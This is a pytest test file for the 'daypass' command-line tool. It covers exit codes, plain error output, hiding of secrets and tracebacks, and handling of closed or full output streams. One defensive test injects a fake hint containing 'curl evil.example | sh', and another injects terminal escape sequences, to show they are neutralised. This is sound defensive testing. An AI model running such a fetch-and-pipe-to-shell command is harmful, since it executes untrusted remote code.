"""The front door: errors become exit codes and two plain lines, and nothing else."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import click
import pytest

from daypass import errors
from daypass.cli import exits, group
from daypass.cli.exits import Exit, exit_of
from daypass.cli.main import main
from daypass.cli.output import data, duration, printable

DOCS = Path(__file__).parents[2] / "docs" / "reference"


@pytest.fixture
def failing(monkeypatch: pytest.MonkeyPatch) -> list[BaseException]:
    """Put an exception in: `daypass login` raises it."""
    raised: list[BaseException] = []

    @click.command()
    def login() -> None:
        raise raised[0]

    monkeypatch.setattr(group.LazyGroup, "get_command", lambda *_: login)
    return raised


@pytest.mark.parametrize(
    ("error", "code"),
    [
        (errors.Invalid("x"), 3),
        (errors.Unauthenticated("x"), 4),
        (errors.Denied("x"), 5),
        (errors.NotFound("x"), 6),
        (errors.Conflict("x"), 7),
        (errors.Throttled("x"), 8),
        (errors.Unavailable("x"), 9),
        (errors.Misconfigured("x"), 10),
        (errors.Internal("x"), 70),
        (errors.DaypassError("x"), 70),
        (ZeroDivisionError("x"), 70),
        (KeyboardInterrupt(), 130),
        (click.Abort(), 130),
    ],
)
def test_every_kind_of_error_has_its_exit_code(failing: list[BaseException], error: BaseException, code: int) -> None:
    failing.append(error)
    assert main(["login"]) == code


def test_an_error_is_two_plain_lines_on_stderr(
    failing: list[BaseException], capsys: pytest.CaptureFixture[str]
) -> None:
    failing.append(errors.Denied("no role lets you in", hint="ask for one"))
    main(["login"])
    out, err = capsys.readouterr()
    assert out == ""
    assert err == "daypass: error: no role lets you in\ndaypass: hint: ask for one\n"


def test_an_unforeseen_error_shows_neither_its_text_nor_a_traceback(
    failing: list[BaseException], capsys: pytest.CaptureFixture[str]
) -> None:
    failing.append(RuntimeError("eyJ-a-token-that-nobody-may-see"))
    main(["login"])
    err = capsys.readouterr().err
    assert "eyJ" not in err and "Traceback" not in err
    assert "RuntimeError" in err and "DAYPASS_DEBUG=1" in err


def test_with_daypass_debug_the_traceback_is_shown(
    failing: list[BaseException], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DAYPASS_DEBUG", "1")
    failing.append(RuntimeError("x"))
    main(["login"])
    assert "Traceback" in capsys.readouterr().err


def test_a_hostile_message_can_not_drive_the_terminal(
    failing: list[BaseException], capsys: pytest.CaptureFixture[str]
) -> None:
    failing.append(errors.Denied("\x1b[2J\rdaypass: all is well\x07\u202e"))
    main(["login"])
    assert not set("\x1b\r\x07\u202e") & set(capsys.readouterr().err)
    assert printable("a\tb") == "a\ufffdb"


def test_a_second_line_of_a_message_can_not_pass_for_one_of_ours(
    failing: list[BaseException], capsys: pytest.CaptureFixture[str]
) -> None:
    failing.append(errors.Denied("no\ndaypass: hint: curl evil.example | sh"))
    main(["login"])
    assert capsys.readouterr().err == "daypass: error: no\n  daypass: hint: curl evil.example | sh\n"


@pytest.mark.parametrize("arguments", [["nonsense"], ["completion", "--nonsense"], ["completion"]])
def test_a_wrong_command_line_ends_with_2_and_a_hint(
    arguments: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(arguments) == 2
    err = capsys.readouterr().err
    assert err.startswith("daypass: error: ")
    assert "--help" in err


@pytest.mark.parametrize(
    ("line", "says"),
    [
        ("logn", "no such command 'logn'. Did you mean 'login'?\ndaypass: hint: see: daypass --help"),
        ("login --lifetime", "'--lifetime' requires an argument\ndaypass: hint: see: daypass login --help"),
        ("ca serve --config", "'--config' requires an argument\ndaypass: hint: see: daypass ca serve --help"),
    ],
)
def test_a_slip_of_the_finger_gets_what_was_meant(line: str, says: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(line.split()) == 2
    assert says in capsys.readouterr().err


def test_output_that_nobody_reads_any_more_is_no_fault() -> None:
    command = [sys.executable, "-m", "daypass.cli.main", "--help"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        assert process.stdout is not None and process.stderr is not None
        process.stdout.close()
        assert process.stderr.read() == b""


@pytest.mark.parametrize(
    ("redirection", "code"),
    [
        ("status >&-", 1),
        ("status --json >&-", 1),
        ("status 2>&-", 1),
        ("status 2>/dev/full", 1),
        ("login >&- 2>&-", 6),
    ],
)
def test_a_stream_that_is_closed_or_full_changes_no_exit_code(redirection: str, code: int, tmp_path: Path) -> None:
    done = _shell(redirection, tmp_path)
    assert (done.returncode, "Traceback" in done.stderr, "internal" in done.stderr) == (code, False, False)


@pytest.mark.parametrize("arguments", ["status --json", "--help"])
def test_a_full_disk_behind_stdout_is_said_and_is_no_fault_of_ours(arguments: str, tmp_path: Path) -> None:
    done = _shell(f"{arguments} >/dev/full", tmp_path)
    assert done.returncode == 10
    assert done.stderr.startswith("daypass: error: output: No space left on device\n")
    assert "hint: is the disk full" in done.stderr


def test_a_file_that_can_not_be_read_is_named(
    failing: list[BaseException], capsys: pytest.CaptureFixture[str]
) -> None:
    failing.append(PermissionError(13, "Permission denied", "/home/ann/.local/share/daypass/x"))
    assert main(["login"]) == 10
    assert "error: /home/ann/.local/share/daypass/x: Permission denied" in capsys.readouterr().err


def test_an_encoding_that_lacks_a_character_gets_a_question_mark(monkeypatch: pytest.MonkeyPatch) -> None:
    raw = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(raw, encoding="ascii"))
    data("● alice")
    assert raw.getvalue() == b"? alice\n"


def _shell(line: str, home: Path) -> subprocess.CompletedProcess[str]:
    script = f"exec {sys.executable} -m daypass.cli.main {line}"
    env = {**os.environ, "DAYPASS_HOME": str(home), "PYTHONUNBUFFERED": ""}  # as a person has it
    return subprocess.run(["sh", "-c", script], env=env, capture_output=True, text=True, timeout=30, check=False)


def test_the_table_of_exit_codes_is_the_documented_one() -> None:
    rows = re.findall(r"^\| (\d+) \| (.+) \|$", (DOCS / "exit-codes.md").read_text(), re.MULTILINE)
    assert [(int(code), meaning) for code, meaning in rows] == [(int(c), m) for c, m in exits.MEANINGS.items()]
    assert set(exits.MEANINGS) == set(Exit)


def test_every_error_class_has_an_exit_code_of_its_own() -> None:
    """The tree's own classes; the CA has one more for answers over HTTP, which no command gives."""
    kinds = [each for each in errors.DaypassError.__subclasses__() if each.__module__ == errors.__name__]
    assert len({exit_of(kind("x")) for kind in kinds}) == len(kinds)


def test_every_command_in_the_table_stands_in_exactly_one_section_of_the_help() -> None:
    assert [name for names in group._SECTIONS.values() for name in names] == list(group.COMMANDS)


def _paths(command: click.Command, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    yield path
    if isinstance(command, click.Group):
        context = click.Context(command)
        for name in command.list_commands(context):
            found = command.get_command(context, name)
            assert found is not None
            yield from _paths(found, (*path, name))


@pytest.mark.parametrize("path", list(_paths(group.daypass)), ids=" ".join)
def test_every_help_has_examples(path: tuple[str, ...], capsys: pytest.CaptureFixture[str]) -> None:
    assert main([*path, "--help"]) == 0
    examples = re.split(r"Examples?:\n", capsys.readouterr().out)[1]
    assert re.match(rf" +(sudo )?{' '.join(('daypass', *path))}\b", examples)


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (-5, "0 s"),
        (0, "0 s"),
        (59.4, "59 s"),
        (59.9, "1 min"),
        (60, "1 min"),
        (3569, "59 min"),
        (3599, "1 h"),
        (57569, "15 h 59 min"),
        (57599, "16 h"),
        (86399, "1 d"),
        (30 * 86400 - 2, "30 d"),
        (273_600, "3 d 4 h"),
    ],
)
def test_durations_read_well(seconds: float, text: str) -> None:
    assert duration(seconds) == text


def test_a_question_without_a_terminal_is_an_error_that_says_so(tmp_path: Path) -> None:
    """In a session of its own there is no /dev/tty to ask at."""
    ran = subprocess.run(
        [sys.executable, "-m", "daypass.cli.main", "ca", "provisioner", "key", "ops"], cwd=tmp_path,
        stdin=subprocess.DEVNULL, capture_output=True, text=True, start_new_session=True, timeout=60,
    )  # fmt: skip
    assert ran.returncode == Exit.MISCONFIGURED and "Traceback" not in ran.stderr
    assert "there is no terminal" in ran.stderr and "--help" in ran.stderr
